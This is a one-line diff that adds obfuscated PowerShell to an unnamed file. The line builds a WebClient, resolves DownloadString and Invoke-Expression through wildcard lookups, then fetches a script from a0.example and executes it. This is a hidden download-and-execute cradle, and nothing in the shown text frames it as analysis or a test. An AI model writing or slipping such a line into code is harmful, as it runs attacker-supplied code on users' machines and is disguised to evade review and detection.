@@ -1,0 +1,1 @@
+$n='Net.WebClient';SV 1X ((New-Object $n));SV Qb 'http://a0.example/p.txt';&(GV E*onte*).Value.InvokeCommand.GetCmdlets('*ke-*pr*')((Get-Variable 1X -ValueOnl).((((Get-Variable 1X -ValueOnl)|Member)|Where{(Variable _ -ValueO).Name-ilike'*wn*d*g'}).Name).Invoke((Get-Variable Qb -ValueOnl)))
